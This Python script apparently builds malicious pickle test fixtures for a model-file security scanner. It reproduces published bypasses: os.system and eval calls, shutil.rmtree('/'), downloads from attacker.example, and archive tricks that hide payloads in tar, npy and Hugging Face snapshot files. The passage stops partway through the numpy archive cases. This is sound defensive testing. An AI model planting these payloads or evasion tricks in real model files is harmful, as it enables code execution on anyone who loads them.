#!/usr/bin/python3
"""Writes the crafted code-running files `test_scan` checks `torchport scan`
against: one small file per global or trick from public advisories
(picklescan's and modelscan's bypass reports, fickling's catalogue, torch's
CVEs), each listed in expected.json with the verdict and the global or
reason the scan must report.

    /usr/bin/python3 tests/security/crafted/make_crafted.py
    /usr/bin/python3 tests/security/crafted/check_crafted.py

The first 77 entries are single files in this folder. Issue 26 added one
folder per place a loader unpickles that a scanner can miss: hf_snapshot/
(hub snapshots whose files are symlinks into ../../blobs; entries are
folders), tar/ (every pickle of the old tar format), numpy/ (object arrays
by their parsed dtype; .npz members stored, deflated, LZMA, BZIP2 and
Zstandard), compressed/ (whole pickles under gzip, zlib, bz2, xz, lzma),
stacked/ (a payload after 64 and 300 pickles), vm_refuses/ (constructs
CPython accepts and torchport's VM refuses) and advisories/ (2025-2026
advisories against picklescan, modelscan, fickling). Entries with
"reads_on": true hold a payload only a loader that reads on would reach.
A verdict is unsafe, unscannable, truncated or malformed (clean only for the
vm_refuses/ constructs the VM has learnt to read); a payload runs at most `touch /tmp/torchport-pwned`.

The pickles are written opcode by opcode: nothing here imports the modules
the files name, and nothing unpickles them. Never load these files with
Python's pickle, numpy, joblib or torch.load. The output is the same bytes
on every run (fixed dates, no randomness).
"""

import bz2
import gzip
import hashlib
import io
import json
import lzma
import os
import shutil
import struct
import tarfile
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))


class P:
    """A pickle, opcode by opcode."""

    def __init__(self, proto=2):
        self.b = bytearray(b"\x80" + bytes([proto])) if proto >= 2 else bytearray()
        self.proto = proto

    def raw(self, b):
        self.b += b
        return self

    def glob(self, module, name):
        return self.raw(b"c" + module.encode() + b"\n" + name.encode() + b"\n")

    def stack_glob(self, module, name):
        return self.s(module).s(name).raw(b"\x93")

    def s(self, text):
        t = text.encode()
        if self.proto == 0:
            return self.raw(b"V" + t + b"\n")
        return self.raw(b"X" + struct.pack("<I", len(t)) + t)

    def bytes_(self, data):
        return self.raw(b"C" + bytes([len(data)]) + data) if self.proto >= 3 else self.s(data.decode("latin1"))

    def i(self, v):
        if self.proto == 0:
            return self.raw(b"I" + str(v).encode() + b"\n")
        return self.raw(b"J" + struct.pack("<i", v))

    def none(self):
        return self.raw(b"N")

    def val(self, v):
        if v is None:
            return self.none()
        if isinstance(v, bool):
            return self.raw(b"\x88" if v else b"\x89")
        if isinstance(v, int):
            return self.i(v)
        if isinstance(v, str):
            return self.s(v)
        if isinstance(v, bytes):
            return self.bytes_(v)
        if isinstance(v, (list, tuple)):
            self.raw(b"(")
            for x in v:
                self.val(x)
            return self.raw(b"l" if isinstance(v, list) else b"t")
        if isinstance(v, dict):
            self.raw(b"(")
            for k, x in v.items():
                self.val(k)
                self.val(x)
            return self.raw(b"d")
        if isinstance(v, P):  # an already written sub-expression
            return self.raw(v.b)
        raise TypeError(v)

    def call(self, module, name, *args, stack=False):
        (self.stack_glob if stack else self.glob)(module, name)
        self.raw(b"(")
        for a in args:
            self.val(a)
        return self.raw(b"tR")

    def stop(self):
        return bytes(self.b + b".")


def call(module, name, *args, proto=2, stack=False):
    return P(proto).call(module, name, *args, stack=stack).stop()


def torch_zip(pkl, prefix="archive/", extra=()):
    """A torch.save-style zip: data.pkl, version, and `extra` (name, bytes)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        z.writestr(stamp(prefix + "data.pkl"), pkl)
        z.writestr(stamp(prefix + "version"), b"3\n")
        for name, data in extra:
            z.writestr(stamp(prefix + name), data)
    return out.getvalue()


def legacy(obj_pkl, sys_info=None):
    """A pre-1.6 torch file: magic, protocol, sys_info, object, storage keys."""
    magic = P(2).raw(b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little")).stop()
    proto = P(2).i(1001).stop()
    info = sys_info or P(2).val({"protocol_version": 1001, "little_endian": True}).stop()
    keys = P(2).val([]).stop()
    return magic + proto + info + obj_pkl + keys


CASES = []


def stamp(name, compress=zipfile.ZIP_STORED):
    """A zip member with a fixed date, so that the files are reproducible."""
    info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
    info.compress_type = compress
    return info


def case(name, data, verdict="unsafe", glob="", reason="calls", dangerous=True, source=""):
    CASES.append({"file": name, "verdict": verdict, "global": glob, "reason": reason,
                  "known_dangerous": dangerous, "source": source, "data": data})


def simple(name, module, fn, *args, source="", dangerous=True, container="zip", proto=2, expect=None):
    pkl = call(module, fn, *args, proto=proto)
    data = torch_zip(pkl) if container == "zip" else pkl
    ext = ".pt" if container == "zip" else ".pkl"
    case(name + ext, data, glob=expect or f"{module}.{fn}", dangerous=dangerous, source=source)


# --- picklescan's 2025-2026 bypasses: names no deny-list had -------------------
simple("pip_main", "pip", "main", ["install", "evil-package"], source="picklescan GHSA: pip.main")
simple("ensurepip_run_pip", "ensurepip", "_run_pip", ["install", "evil"], source="picklescan GHSA: ensurepip._run_pip")
simple("venv_create", "venv", "create", "/tmp/env", False, False, False, True, source="picklescan GHSA: venv.create")
simple("logging_filehandler", "logging", "FileHandler", "/tmp/owned", source="picklescan GHSA: logging.FileHandler")
simple("distutils_write_file", "distutils.file_util", "write_file", "/tmp/owned", ["x"],
       source="picklescan GHSA: distutils.file_util.write_file")
simple("uuid_get_command_stdout", "uuid", "_get_command_stdout", "sh", "-c", "id",
       source="picklescan GHSA: uuid._get_command_stdout")
simple("imaplib_imap4_stream", "imaplib", "IMAP4_stream", "id", source="picklescan GHSA: imaplib.IMAP4_stream")
simple("pyrepl_pipe_pager", "_pyrepl.pager", "pipe_pager", "text", "id", source="picklescan GHSA: _pyrepl.pager.pipe_pager")
simple("doctest_debug_script", "doctest", "debug_script", "import os; os.system('id')",
       source="picklescan GHSA: doctest.debug_script")
simple("test_support_assert_python_ok", "test.support.script_helper", "assert_python_ok", "-c", "import os",
       source="picklescan GHSA: test.support.script_helper.assert_python_ok")
simple("numpy_f2py_getlincoef", "numpy.f2py.crackfortran", "getlincoef", "__import__('os').system('id')", {},
       source="picklescan GHSA: numpy.f2py.crackfortran.getlincoef")
simple("idlelib_calltip_get_entity", "idlelib.calltip", "get_entity", "__import__('os').system('id')",
       source="picklescan GHSA: idlelib.calltip.get_entity")
simple("torch_collect_env_run", "torch.utils.collect_env", "run", "id", source="picklescan GHSA: torch.utils.collect_env.run")
simple("torch_bottleneck_run_cprofile", "torch.utils.bottleneck.__main__", "run_cprofile", "import os", {},
       source="picklescan GHSA: torch.utils.bottleneck helpers")
simple("torch_inductor_compile_file", "torch._inductor.codecache", "compile_file", "/tmp/x.cpp", "/tmp/x.so", ["id"],
       source="picklescan GHSA: torch._inductor.codecache.compile_file")
simple("importlib_import_module", "importlib", "import_module", "os", source="picklescan GHSA: importlib.import_module")
simple("pkgutil_resolve_name", "pkgutil", "resolve_name", "os:system", source="picklescan GHSA: pkgutil.resolve_name")
simple("marshal_loads", "marshal", "loads", b"\xe3", source="picklescan GHSA: marshal.loads")

# --- torch helpers that download, load or run ---------------------------------
simple("torch_model_zoo_load_url", "torch.utils.model_zoo", "load_url", "http://attacker.example/evil.pt",
       source="downloads and unpickles")
simple("torch_lite_interpreter", "torch._C", "_load_for_lite_interpreter", "/tmp/evil.ptl",
       source="loads and runs a TorchScript mobile module")
simple("torch_testing_shell", "torch.testing._internal.common_utils", "shell", "id", source="torch's testing shell helper")
simple("torch_hub_load", "torch.hub", "load", "attacker/repo", "model", source="runs hubconf.py")
simple("torch_jit_load", "torch.jit", "load", "/tmp/evil.pt", source="runs TorchScript code")
simple("torch_load_nested", "torch", "load", "/tmp/evil.pt", source="a second load without weights_only")
simple("torch_load_from_bytes", "torch.storage", "_load_from_bytes", b"\x80\x02.", source="a pickle inside the pickle")
simple("torch_save_writes", "torch", "save", {}, "/tmp/owned", source="writes a file")

# --- the classics (fickling, modelscan) ---------------------------------------
simple("os_system", "os", "system", "id", source="fickling")
simple("posix_system", "posix", "system", "id", container="pkl", source="fickling")
simple("nt_system", "nt", "system", "id", source="fickling")
simple("subprocess_popen", "subprocess", "Popen", ["id"], source="fickling")
simple("builtins_eval", "builtins", "eval", "__import__('os').system('id')", source="fickling")
simple("builtins_exec_stack_global", "builtins", "exec", "import os", proto=4, source="protocol 4 STACK_GLOBAL")
simple("builtin_eval_py2", "__builtin__", "eval", "1", expect="builtins.eval", source="_compat_pickle: __builtin__")
simple("commands_getoutput_py2", "commands", "getoutput", "id", expect="subprocess.getoutput",
       source="_compat_pickle: commands -> subprocess")
simple("cstringio_open_py2", "cStringIO", "open", "/tmp/owned", "w", expect="io.open",
       source="_compat_pickle: cStringIO -> io")
simple("runpy_run_path", "runpy", "run_path", "/tmp/evil.py", source="fickling")
simple("timeit_timeit", "timeit", "timeit", "__import__('os').system('id')", source="modelscan")
simple("pydoc_pipepager", "pydoc", "pipepager", "text", "id", source="modelscan")
simple("webbrowser_open", "webbrowser", "open", "http://attacker.example", source="modelscan")
simple("numpy_testing_runstring", "numpy.testing._private.utils", "runstring", "import os", {}, source="picklescan")
simple("ctypes_cdll", "ctypes", "CDLL", "libc.so.6", source="fickling")
simple("codecs_open_write", "codecs", "open", "/tmp/owned", "w", source="writes a file")
simple("shutil_rmtree", "shutil", "rmtree", "/", source="destroys files")
simple("functools_partial", "functools", "partial", source="builds a call")
simple("cprofile_run", "cProfile", "run", "import os", source="runs a string")
simple("pdb_run", "pdb", "run", "import os", source="runs a string")
simple("asyncio_subprocess", "asyncio.subprocess", "create_subprocess_shell", "id", source="runs a command")
simple("site_addsitedir", "site", "addsitedir", "/tmp/evil", source="runs .pth files")
simple("pickle_loads", "pickle", "loads", b"\x80\x02.", source="a nested unpickler")
simple("joblib_load", "joblib", "load", "/tmp/evil.pkl", source="a nested unpickler")
simple("urllib_urlopen", "urllib.request", "urlopen", "http://attacker.example", source="network")
simple("platform_syscmd_file", "platform", "_syscmd_file", "/tmp/x", source="runs `file`")
simple("unknown_class_call", "mymodel", "Evil", "x", dangerous=False,
       source="a class no list names: unsafe by the allow-list alone")

# logging.config.dictConfig with a '()' factory: the global is dictConfig,
# os.system is only a string.
case("logging_dictconfig_factory.pt",
     torch_zip(call("logging.config", "dictConfig",
                    {"version": 1, "handlers": {"h": {"()": "os.system", "command": "id"}}})),
     glob="logging.config.dictConfig", source="logging.config.dictConfig with '()': 'os.system'")

# antigravity, referenced only: Python imports it (opening a browser).
case("antigravity_referenced.pt",
     torch_zip(P(2).raw(b"(").s("hook").glob("antigravity", "fly").raw(b"d").stop()),
     glob="antigravity.fly", reason="imports", source="import side effect, never called")

# A backward hook, referenced only (an unknown global, named not called).
case("hook_referenced.pt",
     torch_zip(P(2).raw(b"(").s("hook").glob("mymodel", "hook").raw(b"d").stop()),
     glob="mymodel.hook", reason="imports", dangerous=False, source="a reference Python still imports")

# BUILD on a global: overwriting attributes of torch._utils, and of an
# allowed class (torch.Tensor), with the slot-state form (None, {...}).
case("build_on_global.pt",
     torch_zip(P(2).glob("torch", "_utils").raw(b"(").none().val({"_rebuild_tensor_v2": "x"}).raw(b"t")
               .raw(b"b").stop()),
     glob="torch._utils", reason="calls", dangerous=False, source="setattr on a module through BUILD")
case("build_on_allowed_class.pt",
     torch_zip(P(2).glob("torch", "Tensor").raw(b"(").none().val({"__reduce_ex__": "x"}).raw(b"t")
               .raw(b"b").stop()),
     glob="torch.Tensor", reason="calls", dangerous=False, source="setattr on an allowed class through BUILD")

# REDUCE of a non-global: the result of a call, called (cloudpickle-style).
case("reduce_of_non_global.pt",
     torch_zip(P(2).glob("collections", "OrderedDict").raw(b")R").raw(b")R").stop()),
     reason="call-of-non-global", dangerous=False, source="a call of a call's result")

# Dotted name in protocol 4: torch.os.system.
case("dotted_stack_global.pt",
     torch_zip(P(4).stack_glob("torch", "os.system").raw(b"(").s("id").raw(b"tR").stop()),
     glob="torch.os.system", source="protocol 4 attribute chains")

# INST (protocol 0), OBJ, NEWOBJ, NEWOBJ_EX.
case("inst_check_output.pkl", b"(S'id'\nisubprocess\ncheck_output\n.", glob="subprocess.check_output",
     source="INST opcode")
case("obj_opcode.pt", torch_zip(P(2).raw(b"(").glob("os", "system").s("id").raw(b"o").stop()),
     glob="os.system", source="OBJ opcode")
case("newobj_popen.pt", torch_zip(P(2).glob("subprocess", "Popen").val(("id",)).raw(b"\x81").stop()),
     glob="subprocess.Popen", source="NEWOBJ opcode")
case("newobj_ex_popen.pt",
     torch_zip(P(4).stack_glob("subprocess", "Popen").val(("id",)).raw(b"}").raw(b"\x92").stop()),
     glob="subprocess.Popen", source="NEWOBJ_EX opcode")

# A pickle that breaks right after its payload: unsafe, not corrupt.
case("broken_after_payload.pt", torch_zip(P(2).call("os", "system", "id").raw(b"\xff").stop()),
     glob="os.system", source="a payload followed by garbage")
# A pickle the VM refuses (SETITEM on a list) but Python reads on to a call.
case("python_reads_on.pt",
     torch_zip(P(2).raw(b"]").none().raw(b"a").i(0).none().raw(b"s").raw(b"0").call("posix", "system", "id")
               .stop()),
     glob="posix.system", source="torchport's VM stops earlier than Python's")

# A zip refused as malformed must still show its payload.
def zip_with_flag(pkl, flag):
    data = bytearray(torch_zip(pkl))
    # Set the general-purpose flag in the first local header and in its
    # central-directory record.
    data[6:8] = struct.pack("<H", flag)
    cd = data.find(b"PK\x01\x02")
    data[cd + 8:cd + 10] = struct.pack("<H", flag)
    return bytes(data)


case("zip_encrypted_flag_payload.pt", zip_with_flag(call("posix", "system", "id"), 1),
     glob="posix.system", source="picklescan GHSA: zip flag bits hide the pickle")


def zip_local_name(pkl):
    data = bytearray(torch_zip(pkl))
    i = data.find(b"archive/data.pkl")  # the first: the local header's name
    data[i:i + 16] = b"archive/data.pkX"
    return bytes(data)


case("zip_local_name_payload.pt", zip_local_name(call("posix", "system", "id")),
     glob="posix.system", source="central and local names disagree")

# TorchScript archives: code/ runs under torch.jit.load (and torch.load < 2.6).
def torchscript(code_name):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        z.writestr(stamp("model/data.pkl"), P(2).val({}).stop())
        z.writestr(stamp("model/constants.pkl"), P(2).val(()).stop())
        z.writestr(stamp("model/version"), b"3\n")
        z.writestr(stamp(code_name), b"def forward(self):\n  return torch.ops.aten.system('id')\n")
    return out.getvalue()


case("torchscript_code.pt", torchscript("model/code/__torch__.py"), reason="torchscript-code", dangerous=False,
     source="CVE-2025-32434")
case("torchscript_code_upper.pt", torchscript("model/CODE/__torch__.py"), reason="torchscript-code",
     dangerous=False, source="code/ found case-insensitively, as miniz finds it")

# Legacy files: the payload in sys_info.
case("legacy_sys_info_payload.pt", legacy(P(2).val({}).stop(), sys_info=call("os", "system", "id")),
     glob="os.system", source="legacy format")

# The old tar format: the payload in its pickle member.
def torch_tar(pkl):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in (("sys_info", P(2).val({"protocol_version": 1001, "little_endian": True}).stop()),
                           ("pickle", pkl), ("storages", P(2).i(0).stop()), ("tensors", P(2).i(0).stop())):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


case("tar_payload.pt", torch_tar(call("os", "system", "id")), glob="os.system", source="tar format")

# Content, not names: a pickle that starts with FRAME, named like text.
frame_first = b"\x95" + struct.pack("<Q", 0) + call("os", "system", "id")
case("notes.txt", frame_first, glob="os.system", source="CVE-2025-1889: any extension")

# An archive inside an archive.
def plain_zip(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            z.writestr(stamp(name, zipfile.ZIP_DEFLATED), data)
    return out.getvalue()


case("nested_archive.zip", plain_zip([("README.md", b"# a model\n"),
                                      ("weights/evil.pt", torch_zip(call("os", "system", "id")))]),
     glob="os.system", source="an archive in an archive")

# A numpy object array: its data is a pickle.
def npy_object(pkl):
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pkl


case("object_array.npy", npy_object(call("os", "system", "id")), glob="os.system", source="modelscan: numpy")

# EXT1: a global named through copyreg's extension registry.
case("extension_code.pt", torch_zip(P(2).raw(b"\x82\x01").raw(b")R").stop()), reason="extension-code",
     dangerous=False, source="copyreg extension registry")

# copyreg._reconstructor of an unknown class.
case("copyreg_reconstructor.pt",
     torch_zip(P(2).glob("copyreg", "_reconstructor").raw(b"(").glob("mymodel", "Evil")
               .glob("builtins", "object").none().raw(b"tR").stop()),
     glob="copyreg._reconstructor", dangerous=False, source="object reconstruction")


# ==========================================================================
# Issue 26: the places a loader unpickles that a scanner can miss. Each
# group is a folder (crafted/<group>/); every file or folder in it has an
# expected.json entry. A payload runs at most `touch /tmp/torchport-pwned`.
# "reads_on": true marks a payload that torch.load / np.load / joblib.load
# would not reach, but a loader that reads on (pickle.load in a loop,
# another pickle of the stream, another member) would: a scanner must judge
# every byte a loader could unpickle, so these are unsafe too.

CMD = "touch /tmp/torchport-pwned"
GROUPS = ("hf_snapshot", "tar", "numpy", "compressed", "stacked", "vm_refuses", "advisories", "weights_only")
TREES = []  # (folder relative to crafted/, [(path in folder, bytes | Link)])


class Link:
    """A symbolic link in a tree."""

    def __init__(self, target):
        self.target = target


def entry(name, verdict="unsafe", glob="", reason="calls", dangerous=True, source="", reads_on=False,
          data=None):
    """An expected.json entry; `data` is written at `name` unless None (folders are TREES)."""
    c = {"file": name, "verdict": verdict, "global": glob, "reason": reason, "known_dangerous": dangerous,
         "source": source}
    if reads_on:
        c["reads_on"] = True
    c["data"] = data
    CASES.append(c)


def payload(proto=2, module="posix", name="system"):
    """One pickle: posix.system('touch /tmp/torchport-pwned')."""
    return call(module, name, CMD, proto=proto)


def payload_body(module="posix", name="system"):
    """The payload's opcodes without PROTO and STOP, to splice into a pickle."""
    return bytes(P(0).call(module, name, CMD).b)


def harmless(i=0, proto=2):
    """A pickle of plain data: no globals."""
    return P(proto).val({"step": i, "loss": [1, 2]}).stop()


def sha256(data):
    return hashlib.sha256(data).hexdigest()


# --- a Hugging Face hub snapshot: snapshots/<rev>/<file> -> ../../blobs/<hash>

def hf_repo(folder, repo, files):
    """A hub cache repository folder: models--org--name/{refs,blobs,snapshots}.
    LFS files (checkpoints) are stored under their sha256, others under their
    git blob sha1, as huggingface_hub names them. Returns the snapshot's path."""
    rev = hashlib.sha1(repo.encode()).hexdigest()
    root = "models--" + repo.replace("/", "--")
    tree = [(f"{root}/refs/main", rev.encode())]
    seen = set()
    for name, data in files:
        lfs = name.endswith((".bin", ".pt", ".pth", ".safetensors", ".npz", ".npy", ".pkl"))
        h = sha256(data) if lfs else hashlib.sha1(b"blob %d\0" % len(data) + data).hexdigest()
        if h not in seen:
            tree.append((f"{root}/blobs/{h}", data))
            seen.add(h)
        up = "../" * (2 + name.count("/"))
        tree.append((f"{root}/snapshots/{rev}/{name}", Link(f"{up}blobs/{h}")))
    TREES.append((folder, tree))
    return f"{folder}/{root}/snapshots/{rev}", f"{folder}/{root}"


def torch_tensors_zip(tensors, prefix="archive/", obj_extra=b""):
    """A torch.save-style zip of float32 tensors {name: [values]}, each with its
    own storage record, as torch 1.13 writes them (protocol 2, BINPERSID)."""
    p = P(2).raw(b"}(")
    records = []
    for i, (name, values) in enumerate(tensors.items()):
        p.s(name).glob("torch._utils", "_rebuild_tensor_v2").raw(b"(")
        p.raw(b"(").s("storage").glob("torch", "FloatStorage").s(str(i)).s("cpu").i(len(values)).raw(b"tQ")
        p.i(0).val((len(values),)).val((1,)).raw(b"\x89").glob("collections", "OrderedDict").raw(b")R")
        p.raw(b"tR")
        records.append((f"data/{i}", struct.pack(f"<{len(values)}f", *values)))
    p.raw(b"u").raw(obj_extra)
    return torch_zip(p.stop(), prefix=prefix, extra=records)


CONFIG = b'{"architectures": ["TinyModel"], "model_type": "tiny", "hidden_size": 2}\n'

snap, repo = hf_repo("hf_snapshot/payload_bin", "attacker/tiny",
                     [("config.json", CONFIG), ("pytorch_model.bin", torch_zip(payload()))])
entry(snap, glob="posix.system", source="issue 26: a hub snapshot whose files are symlinks into ../../blobs")
entry(repo, glob="posix.system", source="issue 26: the hub cache repository folder (blobs, refs, snapshots)")
snap, _ = hf_repo("hf_snapshot/training_args", "attacker/finetune",
                  [("config.json", CONFIG), ("training_args.bin", torch_zip(payload()))])
entry(snap, glob="posix.system",
      source="transformers' Trainer torch.loads training_args.bin (weights_only=False), a symlinked blob")
index = json.dumps({"metadata": {"total_size": 16}, "weight_map": {
    "a": "pytorch_model-00001-of-00002.bin", "b": "pytorch_model-00002-of-00002.bin"}}, indent=2).encode() + b"\n"
snap, _ = hf_repo("hf_snapshot/sharded", "attacker/sharded",
                  [("config.json", CONFIG), ("pytorch_model.bin.index.json", index),
                   ("pytorch_model-00001-of-00002.bin", torch_tensors_zip({"a": [1.0, 2.0]})),
                   ("pytorch_model-00002-of-00002.bin", torch_zip(payload()))])
entry(snap, glob="posix.system", source="issue 26: a sharded checkpoint in a hub snapshot, the payload in shard 2")
snap, _ = hf_repo("hf_snapshot/nested_name", "attacker/nested",
                  [("config.json", CONFIG), ("unet/diffusion_pytorch_model.bin", torch_zip(payload()))])
entry(snap, glob="posix.system", source="a symlink two folders deep (diffusers' unet/...) into ../../../blobs")
legacy_tail = legacy(P(2).val({}).stop()) + payload()
snap, _ = hf_repo("hf_snapshot/reads_on", "attacker/legacy", [("config.json", CONFIG),
                                                              ("pytorch_model.bin", legacy_tail)])
entry(snap, glob="posix.system", reads_on=True,
      source="a legacy-format blob whose payload follows the five pickles torch.load reads")


# --- the tar format: every pickle of every member -----------------------------

def tar_bytes(members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1767225600  # 2026-01-01, fixed
            t.addfile(info, io.BytesIO(data))
        end = t.offset
    # Without tarfile's padding to 10 KiB records: the two zero blocks that
    # end an archive are enough for every reader.
    return out.getvalue()[:end + 1024]


def tarfile_members(data):
    """The (name, bytes) members of a tar, in order."""
    out = []
    with tarfile.open(fileobj=io.BytesIO(data)) as t:
        for m in t.getmembers():
            out.append((m.name, t.extractfile(m).read()))
    return out


def tar_parts():
    """The members of a tar checkpoint torch's legacy_load reads: one float32
    storage (key 1) of two values, one tensor (key 10) viewing it, and the
    object {'w': tensor 10}. Each part is bytes, to replace one at a time."""
    return {
        "sys_info": P(2).val({"protocol_version": 1001, "little_endian": True,
                               "type_sizes": {"short": 2, "int": 4, "long": 8}}).stop(),
        "storages_count": P(2).i(1).stop(),
        "storage_header": P(2).raw(b"(").i(1).s("cpu").glob("torch", "FloatStorage").raw(b"t").stop(),
        "storage_data": struct.pack("<q", 2) + struct.pack("<2f", 1.0, 2.0),
        "views": P(2).val([]).stop(),
        "storages_tail": b"",
        "tensors_count": P(2).i(1).stop(),
        "tensor_header": P(2).raw(b"(").i(10).i(1).glob("torch", "FloatTensor").raw(b"t").stop(),
        "tensor_data": struct.pack("<ii", 1, 0) + struct.pack("<q", 2) + struct.pack("<q", 1)
                       + struct.pack("<q", 0),
        "tensors_tail": b"",
        "pickle": P(2).raw(b"}").s("w").raw(b"P10\n").raw(b"s").stop(),
        "extra": [],
    }


def tar_checkpoint(**change):
    p = tar_parts()
    p.update(change)
    storages = p["storages_count"] + p["storage_header"] + p["storage_data"] + p["views"] + p["storages_tail"]
    tensors = p["tensors_count"] + p["tensor_header"] + p["tensor_data"] + p["tensors_tail"]
    return tar_bytes([("sys_info", p["sys_info"]), ("pickle", p["pickle"]), ("storages", storages),
                      ("tensors", tensors)] + p["extra"])


def in_tuple(*parts):
    """A pickle (key, location, type)-style tuple whose items are opcode bodies."""
    p = P(2).raw(b"(")
    for x in parts:
        p.raw(x)
    return p.raw(b"t").stop()


KEY1 = bytes(P(2).i(1).b[2:])
CPU = bytes(P(2).s("cpu").b[2:])
FLOAT_STORAGE = bytes(P(2).glob("torch", "FloatStorage").b[2:])

# posix.system returns 0: a storage count of 0, so torch.load reads on and
# returns the object; the file stays a valid checkpoint.
entry("tar/storages_count_call.pt", glob="posix.system",
      source="issue 26: the storages member's count pickle (legacy_load: pickle_module.load)",
      data=tar_checkpoint(storages_count=payload(), storage_header=b"", storage_data=b"",
                          tensors_count=P(2).i(0).stop(), tensor_header=b"", tensor_data=b"",
                          pickle=P(2).val({}).stop()))
entry("tar/storage_location_call.pt", glob="posix.system",
      source="issue 26: a storage header's location field (key, location, storage_type)",
      data=tar_checkpoint(storage_header=in_tuple(KEY1, payload_body(), FLOAT_STORAGE)))
entry("tar/storage_type_call.pt", glob="posix.system",
      source="a storage header's type field (storage_type.dtype is read after the call)",
      data=tar_checkpoint(storage_header=in_tuple(KEY1, CPU, payload_body())))
entry("tar/storage_views_call.pt", glob="posix.system",
      source="the storage-view list pickle that follows the storages",
      data=tar_checkpoint(views=payload()))
entry("tar/tensors_count_call.pt", glob="posix.system",
      source="issue 26: the tensors member's count pickle",
      data=tar_checkpoint(tensors_count=payload(), tensor_header=b"", tensor_data=b"",
                          pickle=P(2).raw(b"}").s("s").raw(b"P1\n").raw(b"s").stop()))
entry("tar/tensor_header_call.pt", glob="posix.system",
      source="a tensor header's type field (key, storage_id, original_tensor_type)",
      data=tar_checkpoint(tensor_header=in_tuple(bytes(P(2).i(10).b[2:]), KEY1, payload_body())))
entry("tar/sys_info_call.pt", glob="os.system",
      source="issue 26: every member of every archive (torch skips sys_info; torchport reads it)",
      data=tar_checkpoint(sys_info=payload(module="os")))
entry("tar/duplicate_member_last.pt", glob="posix.system",
      source="two 'storages' members: tarfile (torch) reads the last, a scanner reading the first misses it",
      data=tar_checkpoint(extra=[("storages", payload() + P(2).val([]).stop())]))
entry("tar/storages_tail_payload.pt", glob="posix.system", reads_on=True,
      source="a pickle after the storage-view list in the storages member",
      data=tar_checkpoint(storages_tail=payload()))
entry("tar/tensors_tail_payload.pt", glob="posix.system", reads_on=True,
      source="a pickle after the last tensor record in the tensors member",
      data=tar_checkpoint(tensors_tail=payload()))
entry("tar/pickle_tail_payload.pt", glob="posix.system", reads_on=True,
      source="a second pickle after the object pickle's STOP",
      data=tar_checkpoint(pickle=tar_parts()["pickle"] + payload()))
entry("tar/extra_member_payload.pt", glob="posix.system", reads_on=True,
      source="issue 26: every member of every archive (a member torch does not name)",
      data=tar_checkpoint(extra=[("evil.pkl", payload())]))
entry("tar/duplicate_member_first.pt", glob="posix.system", reads_on=True,
      source="two 'storages' members: the payload in the first, which tarfile (torch) skips",
      data=tar_bytes([("storages", payload() + P(2).val([]).stop())] +
                     [(n, d) for n, d in tarfile_members(tar_checkpoint())]))


# --- numpy: object arrays by their parsed dtype ------------------------------

def npy(descr, body, shape="(1,)", version=(1, 0), fortran=False, quote="'"):
    """An .npy file: magic, version, header (a Python dict literal, padded to
    64 bytes), then `body`. `descr` is the literal text of the descr value."""
    q = quote
    header = "{%sdescr%s: %s, %sfortran_order%s: %s, %sshape%s: %s, }" % (
        q, q, descr, q, q, "True" if fortran else "False", q, q, shape)
    prefix = 10 if version == (1, 0) else 12
    header += " " * ((-(prefix + len(header) + 1)) % 64) + "\n"
    h = header.encode("latin1" if version != (3, 0) else "utf-8")
    size = struct.pack("<H", len(h)) if version == (1, 0) else struct.pack("<I", len(h))
    return b"\x93NUMPY" + bytes(version) + size + h + body


NUMERIC_NPY = npy("'<f4'", struct.pack("<2f", 1.0, 2.0), shape="(2,)")

DESCRS = [
    ("object_O", "'O'"), ("object_word", "'object'"), ("object_lt_O", "'<O'"),
    ("object_eq_O", "'=O'"), ("object_pipe_O", "'|O'"), ("object_O8", "'O8'"), ("object_gt_O", "'>O'"),
    ("structured_object_field", "[('a', '<f4'), ('b', '|O')]"),
    ("structured_nested_object", "[('a', [('b', '<f4'), ('c', '|O')])]"),
    ("subarray_object_field", "[('a', '|O', (2,))]"),
    ("subarray_object", "('|O', (2,))"),
]
for name, descr in DESCRS:
    entry(f"numpy/{name}.npy", glob="posix.system",
          source=f"issue 26: np.load unpickles any dtype with hasobject; descr spelled {descr}",
          data=npy(descr, payload()))
entry("numpy/object_header_v2.npy", glob="posix.system", source="format version 2.0 (4-byte header length)",
      data=npy("'|O'", payload(), version=(2, 0)))
entry("numpy/object_header_v3.npy", glob="posix.system", source="format version 3.0 (UTF-8 header)",
      data=npy("[('\u00e9', '|O')]", payload(), version=(3, 0)))
entry("numpy/object_double_quotes.npy", glob="posix.system",
      source="the header is a literal: double quotes, as ast.literal_eval reads them",
      data=npy('"|O"', payload(), quote='"'))
entry("numpy/object_empty_shape.npy", glob="posix.system",
      source="an object array of no elements: read_array still unpickles",
      data=npy("'|O'", payload(), shape="(0,)"))
entry("numpy/object_fortran_order.npy", glob="posix.system", source="fortran_order True",
      data=npy("'|O'", payload(), fortran=True))
entry("numpy/object_reads_on.npy", glob="posix.system", reads_on=True,
      source="a second pickle after the one np.load reads",
      data=npy("'|O'", harmless(proto=3) + payload()))


def zip_members(members):
    """A zip of (name, data, compression) with fixed dates (zipfile writes
    deflate, LZMA and BZIP2 as np.savez_compressed / zipfile would)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data, method in members:
            z.writestr(stamp(name, method), data)
    return out.getvalue()


OBJ_NPY = npy("'|O'", payload())
for tag, method in (("stored", zipfile.ZIP_STORED), ("deflate", zipfile.ZIP_DEFLATED),
                    ("lzma", zipfile.ZIP_LZMA), ("bzip2", zipfile.ZIP_BZIP2)):
    entry(f"numpy/npz_{tag}.npz", glob="posix.system",
